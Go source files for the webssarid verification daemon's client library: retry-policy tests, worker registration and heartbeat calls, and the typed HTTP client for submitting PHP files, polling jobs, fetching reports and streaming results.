
func TestRetryPolicyRidesOutDraining503(t *testing.T) {
	ts, requests := flakyServer(t, 1, http.StatusServiceUnavailable, "0")
	c := New(ts.URL, WithRetryPolicy(testPolicy))
	if _, err := c.Health(context.Background()); err != nil {
		t.Fatalf("health after a transient 503: %v", err)
	}
	if n := requests.Load(); n != 2 {
		t.Fatalf("server saw %d requests; want 2", n)
	}
}

func TestRetryPolicyExhaustsAndSurfacesRetryAfter(t *testing.T) {
	ts, requests := flakyServer(t, 1000, http.StatusServiceUnavailable, "1")
	c := New(ts.URL, WithRetryPolicy(RetryPolicy{MaxRetries: 2, BaseDelay: time.Millisecond, MaxDelay: 2 * time.Millisecond}))
	_, err := c.Health(context.Background())
	var apiErr *APIError
	if !errors.As(err, &apiErr) {
		t.Fatalf("error = %v; want *APIError", err)
	}
	if apiErr.StatusCode != http.StatusServiceUnavailable {
		t.Fatalf("status = %d; want 503", apiErr.StatusCode)
	}
	if apiErr.RetryAfter != time.Second {
		t.Fatalf("RetryAfter = %v; want 1s parsed from the header", apiErr.RetryAfter)
	}
	if !apiErr.Temporary() {
		t.Fatal("a 503 must report Temporary")
	}
	if n := requests.Load(); n != 3 {
		t.Fatalf("server saw %d requests; want 3 (initial + 2 retries)", n)
	}
}

func TestRetryPolicyDoesNotRetryPermanentErrors(t *testing.T) {
	ts, requests := flakyServer(t, 1000, http.StatusBadRequest, "")
	c := New(ts.URL, WithRetryPolicy(testPolicy))
	_, err := c.Health(context.Background())
	var apiErr *APIError
	if !errors.As(err, &apiErr) || apiErr.StatusCode != http.StatusBadRequest {
		t.Fatalf("error = %v; want an immediate 400 *APIError", err)
	}
	if apiErr.Temporary() {
		t.Fatal("a 400 must not report Temporary")
	}
	if n := requests.Load(); n != 1 {
		t.Fatalf("server saw %d requests; a 400 must not be retried (saw %d)", n, n)
	}
}

func TestDefaultClientDoesNotRetry(t *testing.T) {
	ts, requests := flakyServer(t, 1000, http.StatusTooManyRequests, "1")
	c := New(ts.URL) // no retry policy: surface transients immediately
	_, err := c.Health(context.Background())
	var apiErr *APIError
	if !errors.As(err, &apiErr) || apiErr.StatusCode != http.StatusTooManyRequests {
		t.Fatalf("error = %v; want an immediate 429 *APIError", err)
	}
	if n := requests.Load(); n != 1 {
		t.Fatalf("server saw %d requests; the default client must not retry", n)
	}
}

func TestRetryPolicyHonorsContextDuringBackoff(t *testing.T) {
	ts, _ := flakyServer(t, 1000, http.StatusServiceUnavailable, "30")
	// The Retry-After hint (30s, capped at MaxDelay=1s by the policy)
	// dominates the backoff; the context must cut the wait short.
	c := New(ts.URL, WithRetryPolicy(RetryPolicy{MaxRetries: 5, BaseDelay: time.Millisecond, MaxDelay: time.Second}))
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, err := c.Health(ctx)
	if err == nil {
		t.Fatal("health succeeded against a permanently draining server")
	}
	if elapsed := time.Since(start); elapsed > 2*time.Second {
		t.Fatalf("client waited %v; the cancelled context should have stopped the backoff", elapsed)
	}
}

func TestRetryPolicyDelaySchedule(t *testing.T) {
	p := RetryPolicy{MaxRetries: 4, BaseDelay: 100 * time.Millisecond, MaxDelay: 5 * time.Second}
	for i := 0; i < 20; i++ {
		// No hint: attempt 1 jitters within [base/2, base].
		if d := p.delay(1, 0); d < 50*time.Millisecond || d > 100*time.Millisecond {
			t.Fatalf("delay(1, 0) = %v; want within [50ms, 100ms]", d)
		}
		// A longer server hint raises the wait.
		if d := p.delay(1, 2*time.Second); d < time.Second || d > 2*time.Second {
			t.Fatalf("delay(1, 2s) = %v; want within [1s, 2s]", d)
		}
		// An outsized hint is capped at MaxDelay.
		if d := p.delay(1, time.Minute); d > 5*time.Second {
			t.Fatalf("delay(1, 1m) = %v; want capped at 5s", d)
		}
		// Deep attempts cap at MaxDelay too.
		if d := p.delay(30, 0); d > 5*time.Second {
			t.Fatalf("delay(30, 0) = %v; want capped at 5s", d)
		}
	}
}
