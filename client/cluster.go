package client

// Cluster-coordination calls: the worker-facing slice of the v1 wire
// schema a webssarid coordinator serves under /v1/cluster. The cluster
// agent (internal/cluster) registers and heartbeats through these; they
// are exported so tests and operational tooling can drive the same
// endpoints.

import (
	"context"
	"net/http"

	"webssari/internal/service/api"
)

// Cluster wire types re-exported alongside the job types.
type (
	RegisterWorkerRequest  = api.RegisterWorkerRequest
	RegisterWorkerResponse = api.RegisterWorkerResponse
	WorkerStatus           = api.WorkerStatus
	ClusterStatus          = api.ClusterStatus
)

// RegisterWorker joins (or re-joins) the cluster, announcing the
// worker's advertised address. The response carries the assigned worker
// ID and the heartbeat cadence the coordinator expects.
func (c *Client) RegisterWorker(ctx context.Context, req RegisterWorkerRequest) (RegisterWorkerResponse, error) {
	var resp RegisterWorkerResponse
	err := c.do(ctx, http.MethodPost, "/v1/cluster/workers", req, &resp)
	return resp, err
}

// Heartbeat refreshes a worker's liveness. A 404 *APIError means the
// coordinator no longer knows the worker (evicted, or the coordinator
// restarted) — the agent re-registers on it.
func (c *Client) Heartbeat(ctx context.Context, workerID string) error {
	return c.do(ctx, http.MethodPost, "/v1/cluster/workers/"+workerID+"/heartbeat", nil, nil)
}

// DeregisterWorker removes a worker gracefully: the coordinator stops
// routing to it immediately and re-dispatches anything in flight, with
// no eviction counted.
func (c *Client) DeregisterWorker(ctx context.Context, workerID string) error {
	return c.do(ctx, http.MethodDelete, "/v1/cluster/workers/"+workerID, nil, nil)
}

// Cluster fetches the coordinator's live membership and dispatch
// counters.
func (c *Client) Cluster(ctx context.Context) (ClusterStatus, error) {
	var st ClusterStatus
	err := c.do(ctx, http.MethodGet, "/v1/cluster", nil, &st)
	return st, err
}
