// Package client is the typed Go client for the webssarid verification
// daemon: submit files and directories, poll job status, fetch results,
// and follow the per-file NDJSON stream — over the versioned v1 wire
// format (internal/service/api). The xbmc CLI's -remote mode and the
// daemon's own integration tests are built on it; hand-rolled HTTP
// against the daemon should not be necessary.
//
//	c := client.New("http://127.0.0.1:8080")
//	sub, err := c.SubmitDir(ctx, client.SubmitDirRequest{Dir: "/srv/app"})
//	st, err := c.Wait(ctx, sub.Job)
//	pr, err := c.DirResult(ctx, sub.Job)
package client

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"strconv"
	"strings"
	"time"

	"webssari"
	"webssari/internal/service/api"
	"webssari/internal/telemetry"
)

// Wire types re-exported so client callers need not import the
// internal api package.
type (
	SubmitFileRequest = api.SubmitFileRequest
	SubmitDirRequest  = api.SubmitDirRequest
	SubmitResponse    = api.SubmitResponse
	JobStatus         = api.JobStatus
	JobState          = api.JobState
	VersionResponse   = api.VersionResponse
	Health            = api.Health
	// SolverSpec is the per-job solver configuration (dispatch mode,
	// budgets, portfolio width, warm starting) attachable to both submit
	// requests; see webssari.SolverConfig for the semantics.
	SolverSpec = api.SolverSpec
)

// Job lifecycle states, re-exported from the wire package.
const (
	StateQueued  = api.StateQueued
	StateRunning = api.StateRunning
	StateDone    = api.StateDone
	StateFailed  = api.StateFailed
)

// Schema is the wire-format version this client speaks.
const Schema = api.Schema

// DefaultPollInterval paces Wait's status polling.
const DefaultPollInterval = 200 * time.Millisecond

// APIError is a non-2xx daemon answer: the HTTP status plus the error
// message from the response body.
type APIError struct {
	StatusCode int
	Message    string
	// RetryAfter is the server's Retry-After hint (zero when absent) —
	// set on 429 (queue full) and 503 (draining) answers. WithRetryPolicy
	// honors it automatically; callers retrying by hand should too.
	RetryAfter time.Duration
}

// Error implements error.
func (e *APIError) Error() string {
	return fmt.Sprintf("webssarid: HTTP %d: %s", e.StatusCode, e.Message)
}

// Temporary reports whether the error is a transient rejection (429
// queue-full or 503 draining) that a later retry may clear. No job was
// created, so retrying the submission is safe.
func (e *APIError) Temporary() bool {
	return e.StatusCode == http.StatusTooManyRequests || e.StatusCode == http.StatusServiceUnavailable
}

// JobFailedError is returned by Wait and the result accessors when the
// job itself failed (as opposed to the HTTP exchange).
type JobFailedError struct {
	Job     string
	Message string
}

// Error implements error.
func (e *JobFailedError) Error() string {
	return fmt.Sprintf("webssarid: job %s failed: %s", e.Job, e.Message)
}

// RetryPolicy makes the client retry transient rejections — 429 (queue
// full) and 503 (draining/overloaded) — with capped exponential backoff
// plus jitter, honoring the server's Retry-After hint when it is longer
// than the computed backoff. Only those two statuses retry: the daemon
// rejects them before creating a job, so a retry can never duplicate
// work. Transport errors and other HTTP statuses surface immediately.
type RetryPolicy struct {
	// MaxRetries is the number of retry attempts after the initial try
	// (0 disables retrying).
	MaxRetries int
	// BaseDelay is the first backoff (default 100ms); each further
	// attempt doubles it up to MaxDelay (default 5s), which also caps an
	// outsized Retry-After.
	BaseDelay time.Duration
	MaxDelay  time.Duration
}

// DefaultRetryPolicy is a modest ready-made policy: 4 retries, 100ms
// base, 5s cap — it rides out a brief queue-full spike without hammering
// a draining server.
var DefaultRetryPolicy = RetryPolicy{MaxRetries: 4, BaseDelay: 100 * time.Millisecond, MaxDelay: 5 * time.Second}

// delay computes the backoff before retry attempt n (1-based), blending
// the exponential schedule with the server hint and adding jitter in
// [d/2, d] so synchronized clients do not retry in lockstep.
func (p RetryPolicy) delay(attempt int, hint time.Duration) time.Duration {
	base := p.BaseDelay
	if base <= 0 {
		base = 100 * time.Millisecond
	}
	max := p.MaxDelay
	if max <= 0 {
		max = 5 * time.Second
	}
	d := base << (attempt - 1)
	if d <= 0 || d > max {
		d = max
	}
	if hint > d {
		d = hint
	}
	if d > max {
		d = max
	}
	return d/2 + time.Duration(rand.Int64N(int64(d/2)+1))
}

// Client talks to one webssarid instance. The zero value is not usable;
// construct with New. A Client is safe for concurrent use.
type Client struct {
	base  string
	hc    *http.Client
	poll  time.Duration
	retry RetryPolicy
}

// ClientOption configures New.
type ClientOption func(*Client)

// WithHTTPClient substitutes the underlying *http.Client (timeouts,
// transports, test doubles). The default is http.DefaultClient.
func WithHTTPClient(hc *http.Client) ClientOption {
	return func(c *Client) { c.hc = hc }
}

// WithPollInterval sets Wait's status-poll cadence.
func WithPollInterval(d time.Duration) ClientOption {
	return func(c *Client) { c.poll = d }
}

// WithRetryPolicy enables transparent retries of transient rejections
// (see RetryPolicy). The default client never retries.
func WithRetryPolicy(p RetryPolicy) ClientOption {
	return func(c *Client) { c.retry = p }
}

// New returns a client for the daemon at base (e.g.
// "http://127.0.0.1:8080"; a trailing slash is tolerated).
func New(base string, opts ...ClientOption) *Client {
	c := &Client{
		base: strings.TrimRight(base, "/"),
		hc:   http.DefaultClient,
		poll: DefaultPollInterval,
	}
	for _, opt := range opts {
		opt(c)
	}
	return c
}

// do runs one JSON exchange: method+path, optional request body,
// optional decoded response. Non-2xx answers decode into *APIError.
// With a retry policy configured, transient rejections (429/503) are
// retried with backoff before surfacing.
func (c *Client) do(ctx context.Context, method, path string, in, out any) error {
	for attempt := 0; ; attempt++ {
		err := c.doOnce(ctx, method, path, in, out)
		apiErr, ok := err.(*APIError)
		if !ok || !apiErr.Temporary() || attempt >= c.retry.MaxRetries {
			return err
		}
		timer := time.NewTimer(c.retry.delay(attempt+1, apiErr.RetryAfter))
		select {
		case <-ctx.Done():
			timer.Stop()
			return err // the rejection, not ctx.Err(): it carries more signal
		case <-timer.C:
		}
	}
}

func (c *Client) doOnce(ctx context.Context, method, path string, in, out any) error {
	var body io.Reader
	if in != nil {
		payload, err := json.Marshal(in)
		if err != nil {
			return fmt.Errorf("client: encoding request: %w", err)
		}
		body = bytes.NewReader(payload)
	}
	req, err := http.NewRequestWithContext(ctx, method, c.base+path, body)
	if err != nil {
		return fmt.Errorf("client: building request: %w", err)
	}
	if in != nil {
		req.Header.Set("Content-Type", "application/json")
	}
	setTraceparent(ctx, req)
	resp, err := c.hc.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		return fmt.Errorf("client: reading response: %w", err)
	}
	if resp.StatusCode < 200 || resp.StatusCode >= 300 {
		apiErr := &APIError{StatusCode: resp.StatusCode}
		if secs, perr := strconv.Atoi(resp.Header.Get("Retry-After")); perr == nil && secs >= 0 {
			apiErr.RetryAfter = time.Duration(secs) * time.Second
		}
		var e api.ErrorResponse
		if json.Unmarshal(data, &e) == nil && e.Error != "" {
			apiErr.Message = e.Error
		} else {
			apiErr.Message = strings.TrimSpace(string(data))
		}
		return apiErr
	}
	if out == nil {
		return nil
	}
	if err := json.Unmarshal(data, out); err != nil {
		return fmt.Errorf("client: decoding response: %w", err)
	}
	return nil
}

// setTraceparent injects the W3C traceparent header when ctx carries a
// trace context (telemetry.WithTraceContext) — the daemon adopts the
// trace ID for the submitted job, which is how one trace spans client,
// coordinator, and workers.
func setTraceparent(ctx context.Context, req *http.Request) {
	if tc := telemetry.TraceContextFrom(ctx); tc.Valid() {
		req.Header.Set(telemetry.TraceparentHeader, tc.Traceparent())
	}
}

// Version fetches the daemon's build and schema version.
func (c *Client) Version(ctx context.Context) (VersionResponse, error) {
	var v VersionResponse
	err := c.do(ctx, http.MethodGet, "/v1/version", nil, &v)
	return v, err
}

// Health fetches the daemon's liveness and queue occupancy.
func (c *Client) Health(ctx context.Context) (Health, error) {
	var h Health
	err := c.do(ctx, http.MethodGet, "/healthz", nil, &h)
	return h, err
}

// SubmitFile submits one PHP source for verification (202 on success).
func (c *Client) SubmitFile(ctx context.Context, req SubmitFileRequest) (SubmitResponse, error) {
	var sub SubmitResponse
	err := c.do(ctx, http.MethodPost, "/v1/files", req, &sub)
	return sub, err
}

// SubmitDir submits a daemon-local directory for verification.
func (c *Client) SubmitDir(ctx context.Context, req SubmitDirRequest) (SubmitResponse, error) {
	var sub SubmitResponse
	err := c.do(ctx, http.MethodPost, "/v1/dirs", req, &sub)
	return sub, err
}

// Job fetches one job's status.
func (c *Client) Job(ctx context.Context, id string) (JobStatus, error) {
	var st JobStatus
	err := c.do(ctx, http.MethodGet, "/v1/jobs/"+id, nil, &st)
	return st, err
}

// Jobs lists all retained jobs, newest first.
func (c *Client) Jobs(ctx context.Context) ([]JobStatus, error) {
	var list api.JobList
	if err := c.do(ctx, http.MethodGet, "/v1/jobs", nil, &list); err != nil {
		return nil, err
	}
	return list.Jobs, nil
}

// Cancel requests a job's cancellation (stop a watch job, abort a
// running or queued job) and returns the status at request time;
// cancellation completes asynchronously.
func (c *Client) Cancel(ctx context.Context, id string) (JobStatus, error) {
	var st JobStatus
	err := c.do(ctx, http.MethodDelete, "/v1/jobs/"+id, nil, &st)
	return st, err
}

// Wait polls until the job reaches a terminal state and returns its
// final status. A failed job returns *JobFailedError alongside the
// status; ctx bounds the wait.
func (c *Client) Wait(ctx context.Context, id string) (JobStatus, error) {
	ticker := time.NewTicker(c.poll)
	defer ticker.Stop()
	for {
		st, err := c.Job(ctx, id)
		if err != nil {
			return st, err
		}
		if st.State.Terminal() {
			if st.State == StateFailed {
				return st, &JobFailedError{Job: id, Message: st.Error}
			}
			return st, nil
		}
		select {
		case <-ctx.Done():
			return st, ctx.Err()
		case <-ticker.C:
		}
	}
}

// result fetches a finished job's raw report payload.
func (c *Client) result(ctx context.Context, id string) (api.ResultResponse, error) {
	var res api.ResultResponse
	if err := c.do(ctx, http.MethodGet, "/v1/jobs/"+id+"/result", nil, &res); err != nil {
		return res, err
	}
	if res.Error != "" {
		return res, &JobFailedError{Job: id, Message: res.Error}
	}
	return res, nil
}

// FileResult fetches a finished file job's report.
func (c *Client) FileResult(ctx context.Context, id string) (*webssari.Report, error) {
	res, err := c.result(ctx, id)
	if err != nil {
		return nil, err
	}
	var rep webssari.Report
	if err := json.Unmarshal(res.Report, &rep); err != nil {
		return nil, fmt.Errorf("client: decoding report: %w", err)
	}
	return &rep, nil
}

// FileResultText fetches a finished file job's rendered human-readable
// report (the ?text=1 view).
func (c *Client) FileResultText(ctx context.Context, id string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/v1/jobs/"+id+"/result?text=1", nil)
	if err != nil {
		return "", err
	}
	setTraceparent(ctx, req)
	resp, err := c.hc.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		return "", err
	}
	if resp.StatusCode != http.StatusOK {
		return "", &APIError{StatusCode: resp.StatusCode, Message: strings.TrimSpace(string(data))}
	}
	return string(data), nil
}

// JobTrace downloads a job's Chrome/Perfetto trace document — the
// job's spans, and (for coordinator-run jobs) the stitched span exports
// of every worker that verified files for it. Available while the job
// runs (partial) and after it finishes; 404s when the daemon runs
// without telemetry.
func (c *Client) JobTrace(ctx context.Context, id string) (telemetry.TraceDoc, error) {
	var doc telemetry.TraceDoc
	err := c.do(ctx, http.MethodGet, "/v1/jobs/"+id+"/trace", nil, &doc)
	return doc, err
}

// DirResult fetches a finished directory job's project report.
func (c *Client) DirResult(ctx context.Context, id string) (*webssari.ProjectReport, error) {
	res, err := c.result(ctx, id)
	if err != nil {
		return nil, err
	}
	var pr webssari.ProjectReport
	if err := json.Unmarshal(res.Report, &pr); err != nil {
		return nil, fmt.Errorf("client: decoding project report: %w", err)
	}
	return &pr, nil
}

// Stream follows a job's NDJSON stream — replayed lines first, then
// live lines until the job ends, ctx is cancelled, or fn returns an
// error (which Stream returns). Each line is one raw JSON document:
// a webssari.Report per finished file, plus (for watch-mode jobs) one
// ProjectReport summary with "files": null closing each round.
func (c *Client) Stream(ctx context.Context, id string, fn func(line json.RawMessage) error) error {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, c.base+"/v1/jobs/"+id+"/stream", nil)
	if err != nil {
		return err
	}
	setTraceparent(ctx, req)
	resp, err := c.hc.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		data, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
		apiErr := &APIError{StatusCode: resp.StatusCode}
		var e api.ErrorResponse
		if json.Unmarshal(data, &e) == nil && e.Error != "" {
			apiErr.Message = e.Error
		} else {
			apiErr.Message = strings.TrimSpace(string(data))
		}
		return apiErr
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64<<10), 16<<20)
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		if err := fn(append(json.RawMessage(nil), line...)); err != nil {
			return err
		}
	}
	if err := sc.Err(); err != nil && ctx.Err() == nil {
		return err
	}
	return ctx.Err()
}
